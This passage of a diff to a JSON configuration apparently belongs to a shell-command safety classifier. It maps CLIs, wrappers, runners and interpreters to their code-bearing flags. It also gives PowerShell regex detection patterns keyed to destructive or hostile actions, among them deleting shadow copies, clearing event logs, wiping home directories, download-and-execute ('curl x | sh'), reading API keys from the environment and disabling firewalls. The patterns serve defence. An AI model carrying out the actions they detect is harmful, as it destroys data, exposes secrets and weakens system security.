-rt":"cdfhpUvw","long":["command","host","port","username","dbname","file"],"permuted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operand\
-s":"no code"},"mycli":{"short":"ehPuDp","long":["execute","host","port","user","database"],"permuted":true,"language":"sql","code":["e","execute"],"operands":"n\
-o code"},"litecli":{"short":"ehPuDp","long":["execute","host","port","user","database"],"permuted":true,"language":"sql","code":["e","execute"],"operands":"no c\
-ode"},"usql":{"short":"cfv","long":["command","file"],"permuted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"snow":\
-{"short":"qfc","long":["query","filename","connection"],"permuted":true,"language":"sql","code":["q","query"],"files":["f","filename"],"operands":"no code"}},"c\
-onsoles":{"rails":{"short":"e","long":["environment"],"after":["runner","r","console","c"],"language":"ruby","operands":"code"},"spring":{"short":"e","long":["e\
-nvironment"],"after":["runner","r","console","c"],"language":"ruby","operands":"code"},"manage.py":{"short":"c","long":["command","interface"],"after":["shell",\
-"shell_plus"],"language":"python","code":["c","command"]},"django-admin":{"short":"c","long":["command","interface"],"after":["shell","shell_plus"],"language":"\
-python","code":["c","command"]},"flask":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"odoo-bin":{"short":"cd","after":["shell"],"language":\
-"python","code":["c"]},"odoo":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"superset":{"short":"cd","after":["shell"],"language":"python","\
-code":["c"]},"scrapy":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"artisan":{"long":["execute"],"after":["tinker"],"language":"php","code"\
-:["execute"]},"drush":{"after":["php:eval","php-eval","eval","ev","php:cli"],"language":"php","operands":"code"},"drush.phar":{"after":["php:eval","php-eval","e\
-val","ev","php:cli"],"language":"php","operands":"code"},"n98-magerun2":{"after":["dev:console"],"language":"php","operands":"code"},"n98-magerun2.phar":{"after\
-":["dev:console"],"language":"php","operands":"code"},"magerun2":{"after":["dev:console"],"language":"php","operands":"code"},"wp":{"after":["eval","shell"],"la\
-nguage":"php","operands":"code"},"wp-cli":{"after":["eval","shell"],"language":"php","operands":"code"},"wp-cli.phar":{"after":["eval","shell"],"language":"php"\
-,"operands":"code"}},"wrappers":{"sudo":{"short":"ugpCDRTrthU","long":["user","group","prompt","chdir","chroot","role","type","host","other-user","close-from","\
-command-timeout"],"assigns":true,"folder":["D","chdir"]},"doas":{"short":"uC","assigns":true},"exec":{"short":"a"},"builtin":{},"pkexec":{"long":["user"]},"run0\
-":{"short":"uD","long":["user","chdir","property","setenv","unit"],"folder":["D","chdir"]},"gosu":{"skip":1},"su-exec":{"skip":1},"taskset":{"skip":1},"setpriv"\
-:{"long":["reuid","regid","groups","inh-caps","bounding-set","securebits","pdeathsig"]},"runcon":{"short":"utrl","skip":1},"env":{"short":"uCS","long":["unset",\
-"chdir","split-string"],"assigns":true,"folder":["C","chdir"],"code":["S","split-string"]},"cross-env":{"assigns":true},"dotenv":{"short":"ef"},"nohup":{},"sets\
-id":{},"disown":{},"prlimit":{},"unbuffer":{},"valgrind":{},"catchsegv":{},"entr":{},"firejail":{},"torsocks":{},"eatmydata":{},"ccache":{},"winpty":{},"busybox\
-":{},"toybox":{},"noglob":{},"nocorrect":{},"bunx":{},"pnpx":{},"ddev":{"own":true},"lando":{"own":true},"nice":{"short":"n","long":["adjustment"]},"ionice":{"s\
-hort":"cnpPu","long":["class","classdata"]},"chrt":{"short":"TPD","skip":1},"numactl":{"short":"NmCipP"},"timeout":{"short":"sk","long":["signal","kill-after"],\
-"skip":1},"stdbuf":{"short":"ioe","long":["input","output","error"]},"time":{"short":"fo","long":["format","output"]},"strace":{"short":"eopsPuXaIbOESU"},"ltrac\
-e":{"short":"eopsnaAuSlwF"},"hyperfine":{"short":"wrnmMpcSLDsu","long":["warmup","runs","prepare","cleanup","shell","export-json","export-markdown"],"code":["p"\
-,"c","prepare","cleanup"],"joined":true},"watch":{"short":"nq","long":["interval","equexit"],"joined":true},"pdsh":{"short":"wlgxuftHmjoe","long":["hosts","user\
-","timeout"],"joined":true},"dsh":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"clush":{"short":"wlgxuftHmjoe","long":["hosts","user\
-","timeout"],"joined":true},"pssh":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"parallel-ssh":{"short":"wlgxuftHmjoe","long":["host\
-s","user","timeout"],"joined":true},"flock":{"short":"wEc","long":["wait","timeout","conflict-exit-code","command"],"skip":1,"code":["c","command"]},"script":{"\
-short":"cEIOBTomt","long":["command"],"permuted":true,"skip":99,"code":["c","command"]},"chroot":{"long":["userspec","groups"],"skip":1,"own":true},"unshare":{"\
-short":"SGRw","long":["setuid","setgid","root","wd"],"folder":["w","wd"],"own":true},"nsenter":{"short":"tSGrw","long":["target","setuid","setgid"],"own":true},\
-"fakeroot":{"short":"lsib"},"proot":{"short":"rbwqk"},"proxychains":{"short":"f"},"proxychains4":{"short":"f"},"tini":{"short":"pe"},"dumb-init":{"short":"r"},"\
-xvfb-run":{"short":"nesfpw"},"dbus-run-session":{"long":["config-file","dbus-daemon"]},"systemd-run":{"short":"pEMHtu","long":["property","setenv","unit","descr\
-iption","slice","uid","gid","working-directory","on-active","on-calendar","on-boot"],"own":true},"systemd-inhibit":{"long":["what","who","why","mode"]},"caffein\
-ate":{"short":"tw"},"npx":{"short":"pc","long":["package","call"],"code":["c","call"]},"uvx":{"long":["from","with","python"]},"su":{"short":"cgGsw","long":["co\
-mmand","group","shell","session-command"],"permuted":true,"skip":99,"code":["c","command","session-command"]},"runuser":{"short":"cgGswu","long":["command","gro\
-up","shell","session-command","user"],"code":["c","command","session-command"]},"sg":{"short":"c","permuted":true,"skip":99,"code":["c"]}},"runners":{"npm":{"sh\
-ort":"c","long":["package","workspace","prefix","call"],"code":["c","call"],"after":["exec","x","explore"]},"pnpm":{"short":"","long":["package","filter","dir"]\
-,"after":["exec","dlx"]},"yarn":{"short":"jp","long":["package","cwd","include","exclude","from","since","jobs"],"after":["dlx","exec"]},"bun":{"short":"","long\
-":[],"after":["x","exec"]},"lerna":{"short":"","long":["scope","ignore","concurrency"],"after":["exec"]},"nx":{"short":"","long":[],"after":["exec"]},"bundle":{\
-"short":"","long":[],"after":["exec"]},"rbenv":{"short":"","long":[],"after":["exec"]},"pyenv":{"short":"","long":[],"after":["exec"]},"asdf":{"short":"","long"\
-:[],"after":["exec"]},"composer":{"short":"","long":[],"after":["exec"]},"volta":{"short":"","long":["node","npm","yarn"],"after":["run"]},"fnm":{"short":"","lo\
-ng":["using"],"after":["exec"]},"corepack":{"short":"","long":[]},"flatpak-spawn":{"short":"","long":[]},"pipx":{"short":"","long":["spec"],"after":["run"]},"uv\
-":{"short":"","long":["with","python","project","directory","extra","group","env-file"],"after":["run"]},"poetry":{"short":"","long":[],"after":["run"]},"pipenv\
-":{"short":"","long":[],"after":["run"]},"pdm":{"short":"","long":[],"after":["run"]},"rye":{"short":"","long":[],"after":["run"]},"hatch":{"short":"","long":[]\
-,"after":["run"]},"op":{"short":"","long":[],"after":["run"]},"doppler":{"short":"","long":[],"after":["run"]},"infisical":{"short":"","long":[],"after":["run"]\
-},"railway":{"short":"","long":[],"after":["run"]},"dotenv-vault":{"short":"","long":[],"after":["run"]},"heroku":{"short":"ares","long":["app","remote","env","\
-size"],"after":["run","run:detached"]},"conda":{"short":"np","long":["name","prefix"],"after":["run"]},"nvm":{"short":"","long":[],"after":["exec"],"skip":1},"d\
-irenv":{"short":"","long":[],"after":["exec"],"skip":1},"lxc":{"short":"","long":[],"after":["exec"],"skip":1},"mise":{"short":"","long":[],"after":["exec","x"]\
-},"rustup":{"short":"","long":[],"after":["run"],"skip":1},"nix":{"short":"","long":[],"after":["develop","shell","run"]},"vagrant":{"short":"c","long":["comman\
-d"],"code":["c","command"],"after":["ssh"]},"repo":{"short":"c","long":["command"],"code":["c","command"],"after":["forall"]}},"small_languages":{"lua":{"short"\
-:"e","long":[],"code":["e"],"dialect":"lua"},"luajit":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.1":{"short":"e","long":[],"code":["e"],"dialect\
-":"lua"},"lua5.2":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.3":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.4":{"short":"e","long\
-":[],"code":["e"],"dialect":"lua"},"Rscript":{"short":"e","long":[],"code":["e"],"dialect":"r"},"R":{"short":"e","long":[],"code":["e"],"dialect":"r"},"julia":{\
-"short":"eE","long":["eval","print"],"code":["e","E","eval","print"],"dialect":"julia"},"tclsh":{"short":"","long":[],"dialect":"tcl"},"wish":{"short":"","long"\
-:[],"dialect":"tcl"},"expect":{"short":"c","long":[],"code":["c"],"dialect":"tcl"},"emacs":{"short":"e","long":["eval"],"code":["eval","e"],"dialect":"lisp"},"e\
-macsclient":{"short":"e","long":["eval"],"code":["eval","e"],"dialect":"lisp"},"clojure":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"l\
-isp"},"clj":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"bb":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialec\
-t":"lisp"},"guile":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"racket":{"short":"cex","long":["eval"],"code":["c","e","eval","\
-x"],"dialect":"lisp"},"sbcl":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"ecl":{"short":"cex","long":["eval"],"code":["c","e","\
-eval","x"],"dialect":"lisp"},"clisp":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"chicken":{"short":"cex","long":["eval"],"code\
-":["c","e","eval","x"],"dialect":"lisp"},"csi":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"gosh":{"short":"cex","long":["eval"\
-],"code":["c","e","eval","x"],"dialect":"lisp"},"elixir":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"elixir"},"iex":{"short":"e","long":["eval"]\
-,"code":["e","eval"],"dialect":"elixir"},"mix":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"elixir"},"erl":{"short":"","long":["eval"],"code":["e\
-val"],"dialect":"erlang"},"escript":{"short":"","long":["eval"],"code":["eval"],"dialect":"erlang"},"octave":{"short":"r","long":["eval","batch"],"code":["eval"\
-,"batch","r"],"dialect":"octave"},"octave-cli":{"short":"r","long":["eval","batch"],"code":["eval","batch","r"],"dialect":"octave"},"matlab":{"short":"r","long"\
-:["eval","batch"],"code":["eval","batch","r"],"dialect":"octave"},"ghc":{"short":"e","long":[],"code":["e"],"dialect":"haskell"},"runghc":{"short":"e","long":[]\
-,"code":["e"],"dialect":"haskell"},"stack":{"short":"e","long":[],"code":["e"],"dialect":"haskell"},"scala":{"short":"ec","long":[],"code":["e","c"],"dialect":"\
-named"},"scala-cli":{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"amm":{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"kotlin":{"sho\
-rt":"ec","long":[],"code":["e","c"],"dialect":"named"},"spark-shell":{"short":"","long":["master","deploy-mode","conf","packages","jars","name","driver-memory",\
-"executor-memory","queue"],"dialect":"named"},"swift":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"named"},"nim":{"short":"e","long":["eval"],"co\
-de":["e","eval"],"dialect":"named"},"crystal":{"short":"e","long":[],"code":["e"],"dialect":"named","operands":"code"},"go":{"short":"","long":[],"dialect":"nam\
-ed"},"rustc":{"short":"","long":[],"dialect":"named"},"rust-script":{"short":"","long":[],"dialect":"named"},"swiftc":{"short":"","long":[],"dialect":"named"},"\
-zig":{"short":"","long":[],"dialect":"named"},"v":{"short":"","long":[],"dialect":"named"},"kotlinc":{"short":"","long":[],"dialect":"named"},"groovy":{"short":\
-"e","long":[],"code":["e"],"dialect":"typed"},"java":{"short":"","long":[],"dialect":"typed"},"jshell":{"short":"","long":[],"dialect":"typed"},"gcc":{"short":"\
-","long":[],"dialect":"typed"},"cc":{"short":"","long":[],"dialect":"typed"},"tcc":{"short":"","long":[],"dialect":"typed"},"g++":{"short":"","long":[],"dialect\
-":"typed"},"c++":{"short":"","long":[],"dialect":"typed"},"clang":{"short":"","long":[],"dialect":"typed"},"clang++":{"short":"","long":[],"dialect":"typed"},"c\
-sc":{"short":"","long":[],"dialect":"typed"},"dart":{"short":"","long":[],"dialect":"typed"},"dotnet":{"short":"","long":[],"dialect":"typed","operands":"code"}\
-,"dotnet-script":{"short":"","long":[],"dialect":"typed","operands":"code"},"pwsh":{"short":"c","long":["Command","command","encoded"],"code":["c","Command","co\
-mmand","encoded"],"operands":"code","ignores":["(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Get-Help|Get-Command|gcm|help)\\\\b[^;|&\\\\n(){\
-}$\\"']{0,500}(?=[;|\\\\n]|$)","(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Write-(?:Host|Warning|Verbose)|throw)\\\\s+([\\"'])[^\\"'$\\\\n]{0,50\
-0}\\\\2(?=\\\\s{0,40}(?:[;}\\\\n]|$))","(#)|\\\\bInvoke-ScriptAnalyzer\\\\s+-ScriptDefinition\\\\s+([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2","(#)|\\\\bParseInput\\\\(\\\\s{0,40\
-}([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*\\\\)","(#)|\\\\bSelect-String\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+([\\"'])(?:(?\
-!\\\\2|\\\\$\\\\()[^\\\\n]){0,500}\\\\2","(\\"[^\\"]{0,2000}\\"|#)|\\\\bTokenize\\\\(\\\\s{0,40}'[^'\\\\n]{0,1000}'(?=\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$null\\\\s*\\\\))"],"does":{"rm -rf \`x\`/*":["(?\
-<![\\"'])\\\\b(?:Remove-Item|ri|rm|rd|rmdir|del)\\\\b(?=[^;\\\\n|]{0,200}\\\\s-[rR])(?![^;\\\\n|#]{0,200}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,200}?\\\\s[\\"']?\\\\$env:(?!TEMP\\\\b|TM\
-P\\\\b)\\\\w+[\\\\\\\\/]\\\\*"],"vssadmin delete shadows":["\\\\bWin32_ShadowCopy\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject|ForEach-Object[^;\\\\n]{0,200\
-}\\\\.Delete\\\\()"],"wevtutil cl System":["(?<=(?:^|[;{}\\\\n|])\\\\s{0,40})wevtutil(?:\\\\.exe)?\\\\s+(?:cl|clear-log)\\\\b","\\\\bEventLogSession\\\\b[^;\\\\n]{0,200}\\\\.ClearLog\
-\\\\("],"rm -rf ~/*":["\\\\bWin32_UserProfile\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\[(?:System\\\\.)?IO\\\\\
-.Directory\\\\]::Delete\\\\(\\\\s*\\\\(?\\\\s*(?:Join-Path\\\\s+)?[\\"']?(?:\\\\$HOME|\\\\$env:USERPROFILE|~)(?![\\\\w.])","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-(?!Filter|Inc\
-lude)\\\\w+)*\\\\s+[\\"']?~[\\"']?(?![^;\\\\n]{0,300}\\\\s-(?:WhatIf|Filter|Include)\\\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?:Where-Object|\\\\?)\\\\s+(?:-Property\\\\s+)?Name\\\\s+-[cCiI]\
-?[iI]n\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:Remove-Item|ri|rm|del)\\\\b"],"rm -rf ~/Documents":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?=[^;\\\\n|]{0,300}\\\\s-Recurse\\\\b)(?=[^;\
-\\\\n|]{0,300}\\\\s-(?:Include|Filter)\\\\s+[\\"']?\\\\*\\\\.(?!(?:tmp|temp|log|bak|old|orig|pyc|pyo|cache|swp|swo|dmp|o|obj|class|etl|part|crdownload)\\\\b))(?:\\\\s+-(?!Incl\
-ude|Filter)\\\\w+){0,9}\\\\s+[\\"']?~[\\"']?\\\\s(?![^;\\\\n]{0,300}\\\\s-WhatIf\\\\b)[^;\\\\n]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b"],"cat $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200\
-})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml|Copy-Item|cpi|Move-Item)\\\\b(?:\\\\s+-(?!TotalCount|Tail|First)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"\
-'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:ReadAll\\\\w+|ReadLines|OpenRead|OpenText)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\b(?:Get-Child\
-Item|gci)\\\\s+(?:-Path\\\\s+)?([\\"'][^|\\\\n;]{1,400}?[\\"'])(?=\\\\s+-|\\\\s*\\\\|)[^|\\\\n;]{0,100}\\\\|\\\\s*(?:ForEach-Object|%)\\\\s*\\\\{[^}\\\\n]{0,200}\\\\b(?:Get-Content|gc)\\\\b"\
-],"cat ~/$":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml)\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+\\\\(\\\\s*Join-Path\\\\s+(?:-Path\\\\s+)?[\\"']?~\
-[\\"']?\\\\s+(?:-ChildPath\\\\s+)?[\\"']?([^\\"'$()\\\\s]+)"],"echo x > $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Set-Content|Add-Content|Out-File|Tee-Object)\\\\b(?:\\\\s+-(?!Val\
-ue)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:WriteAll\\\\w+|AppendAll\\\\w+)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\
-\\\\s\\"'$;|,()]*)\\\\1"],"while :; do x & done":["\\\\b(?:while\\\\s*\\\\(\\\\s*(?:\\\\$true|1)\\\\s*\\\\)|for\\\\s*\\\\(\\\\s*;\\\\s*;\\\\s*\\\\))\\\\s*\\\\{(?![^}]{0,400}(?:\\\\b(?:Start-Sleep|s\
-leep|break|Read-Host|Wait-\\\\w+|return|exit)\\\\b|\\\\s-Wait\\\\b))[^}]{0,400}\\\\b(?:Start-Process|Start-Job|saps|sajb)\\\\b"],"pkill -f $":["\\\\b(?:Get-Process|gps|ps)\\\\b\
-(?:\\\\s+-\\\\w+){0,2}(?:\\\\s+[\\"']?([\\\\w.*,-]+)[\\"']?)?[^;\\\\n|]{0,200}\\\\|\\\\s*(?![^;\\\\n]{0,400}\\\\s-WhatIf(?![:\\\\w]))(?:(?:Where-Object|where|\\\\?)(?:[^;\\\\n|\\"']{0,200\
-}[\\"']([^\\"'\\\\n]{1,100})[\\"'])?[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:(?:ForEach-Object|%)\\\\s*\\\\{[^;\\\\n}]{0,80})?\\\\b(?:Stop-Process|spps)\\\\b","\\\\b(Get-(?:NetTCPConnection|N\
-etUDPEndpoint))\\\\b(?![^;\\\\n|]{0,100}-LocalPort\\\\s+(?:3\\\\d{3}|4200|5173|80[08]\\\\d)\\\\b)[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,200}\\\\b(?:Stop-Process|spps)\\\\b(?![^;\\\\n]{0,300}\
-\\\\s-WhatIf(?![:\\\\w]))"],"killall $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Stop-Process|spps)\\\\b(?![^;\\\\n|]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?:\\\\s+-(?!Name)\\\\w+){0,3}\\\\s+-\
-Name\\\\s+[\\"']?([\\\\w.*-]+)"],"truncate -s 0 $":["(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}\\\\s+(\
-[\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1"],"truncate -s 0 $/*":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\
-\\1[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-]+)[^\\\\n]*\\\\bClear-Content\\\\b[\\\\s\\\\S]*\
-\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b"],"echo x >> ~/.bashrc":["\\\\b(?:Add\
--Content|Set-Content|Out-File|ac|sc|tee|Tee-Object)\\\\b[^;\\\\n|]{0,300}\\\\$PROFILE\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(?:System\\\\.)?IO\\\\.(?:Directory|File)\\\\\
-]::Delete\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","(?<![\\"'])\\\\b(?:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDr\
-ive:))(?:\\\\s+-\\\\w+){0,9}(?:\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|]*)\\\\1)?","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)((?:[A-Za-z]:|[/~])[\
-^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\\s)(?:LastWriteTime|CreationTime|Las\
-tAccessTime|Length|Name|BaseName|FullName|Extension)\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\
-\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs|ts|tsx|js|py|g\
-o|rs|java|rb|php|cpp|c|h|kt|md)\\\\b)|Where|\\\\?\\\\s*\\\\{))[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del)\\\\b"],"$":["\\\\b(?:Invoke-Expression|i\
-ex)\\\\s+([\\"'])(.*?)\\\\1","(?:^|\\\\n)(?:[^\\"'#\\\\n]{0,200}[;{|&=(])?\\\\s{0,40}((?:git|az|aws|gcloud|kubectl|helm|docker|podman|terraform|tofu|gh|glab|npm|psql|mysql|\
-sqlcmd|redis-cli|mongosh|cmd|wsl|bash|sh|shutdown|vssadmin|ssh|heroku|firebase|supabase|prisma|npx|dropdb|reg|schtasks|diskpart|icacls|curl|scp|rsync|robocopy)(\
-?:\\\\.exe)?\\\\s(?:'[^'\\\\n]*'|\\"[^\\"\\\\n]*\\"|[^;\\\\n|{}>'\\"])*)","((?<![/\\\\\\\\.\\\\w])(?:Clear|Format|Initialize|Remove)-(?:Disk|Volume|Partition|LocalUser|Service|VM|A\
-z\\\\w+|EC2\\\\w+|S3\\\\w+|AD\\\\w+|Mg\\\\w+|Mailbox|DistributionGroup|Unified\\\\w+|Msol\\\\w+|SPO\\\\w+|PnP\\\\w+|Dba\\\\w+|Team|DnsServer\\\\w+|DhcpServer\\\\w+|GPO|ClusterResource|\
-VMSnapshot|VirtualDisk|StoragePool)\\\\b[^;|\\\\n]*)","((?:Stop-Computer|Restart-Computer|Get-StoredCredential|Get-Secret|Clear-EventLog|Clear-RecycleBin|Set-MpPref\
-erence|Set-ExecutionPolicy(?![^;\\\\n]{0,300}(?:Process|CurrentUser))|Register-ScheduledTask|New-Service|Stop-Service)\\\\b[^;|\\\\n]*)"],"useradd x":["(?<=(?:^|[;{}\\\
-\\n|])\\\\s{0,40})New-LocalUser\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))"],"usermod -aG sudo x":["(?<=(?:^|[;{}\\\\n|])\\\\s{0,40})Add-LocalGroupMember\\\\b(?![^;\\\\n]{0,\
-300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n]{0,200}Admin"],"ufw disable":["(?<=(?:^|[;{}\\\\n|])\\\\s{0,40})Set-NetFirewallProfile\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\\
-n]{0,200}\\\\s-Enabled:?\\\\s+[\\"']?(?:False|\\\\$false)"],"curl x | sh":["\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*[&.]\\\\s*\\\\(?\\\\\
-s*[\\"']?(?:iex|Invoke-Expression)\\\\b","[&.]\\\\s*\\\\((?:Get-Alias|gal|Get-Command|gcm)\\\\s[^)\\\\n]{0,40}[?*][^)\\\\n]{0,40}\\\\)\\\\s{0,9}\\\\(?\\\\s{0,9}(?:iwr|irm|Invoke-Web\
-Request|Invoke-RestMethod)\\\\b","\\\\bscriptblock\\\\]::Create\\\\((?=[\\\\s\\\\S]*\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b)","\\\\b(?:iwr|irm|In\
-voke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\bscriptblock\\\\]::Create\\\\(","(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\\
-s\\\\S]*\\\\|\\\\s*(?:iex|Invoke-Expression)\\\\b","(?:iex|Invoke-Expression)\\\\b[\\\\s\\\\S]*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b"],"printenv A\
-PI_KEY":["(?:Get-ChildItem|gci|ls|dir)\\\\s+Env:[^;\\\\n]{0,300}(?:Where|-match)[^;\\\\n]{0,300}(?:KEY|TOKEN|SECRET|PASSW)"]}},"powershell":{"short":"c","long":["Comm\
+alkey|keydb|mongo|clickhouse-server|memcached|rabbitmq|redpanda|kafka|cp-kafka|nats|etcd)(?:[:@]|$)"],"near_client":["^(?:rpk|kafka-\\\\w+(?:\\\\.sh)?)$"],"containe\
+r_network":[" --?net(?:work)?[= ](?:name=)?(?:host|container|ns|slirp\\\\w*|pasta)\\\\b| --(?:link|env-file)\\\\b|(?:HOST(?!_AUTH_METHOD)|UR[IL]|ADDR|DSN|SERVICE|ENDP\
+OINT|SEED)\\\\w*=|--seeds\\\\b| [A-Z_]+=\\\\S*://|\\\\.my\\\\.cnf|pgpass|pg_service|psqlrc"],"input_name":["^(?:[-=]|/dev/stdin)$"],"indirect_runs":["\\\\b(?:exec\\\\.Command\
+(?:Context)?|Command::new|ProcessBuilder|Runtime\\\\S*\\\\.exec|Process\\\\.(?:run|start)(?:Sync)?|os\\\\.execute|io\\\\.popen)\\\\s*\\\\(\\\\s*(?:ctx\\\\s*,\\\\s*)?(?![\\\\s\\"'\`)])|\
+\\\\b(?:system2?|popen|execv[pe]*|System\\\\.(?:cmd|shell)|os:cmd|Open3\\\\.\\\\w+)\\\\s*\\\\(\\\\s*(?![\\\\s\\"'\`)])"],"command_texts":["([\\"'])((?:sudo\\\\s+)?(?:rm|dd|shred|mkf\
+s\\\\S*|git|chmod|chown|curl|wget)\\\\s(?:(?!\\\\1)[^\\\\\\\\\\\\n]){1,500})\\\\1"],"home_lookup":["\\\\bEnvironment\\\\.(?:GetFolderPath\\\\(\\\\s*Environment\\\\.SpecialFolder\\\\.(?:U\
+serProfile|Personal|MyDocuments)|GetEnvironmentVariable\\\\(\\\\s*\\"(?:HOME|USERPROFILE)\\")\\\\s*\\\\)|\\\\b(?:System\\\\.)?(?:homedir|user_home!?)\\\\(\\\\)|\\\\$(?:HOME|env:USE\
+RPROFILE|env:HOME)\\\\b|\\\\bENV\\\\[[\\"']HOME[\\"']\\\\]|\\\\b(?:(?:std::)?env::|os[.:]|Sys\\\\.|System\\\\.)?(?:[gG]etenv|get_env!?|var(?:_os)?|getProperty)\\\\s*\\\\(?\\\\s*[\\"']\
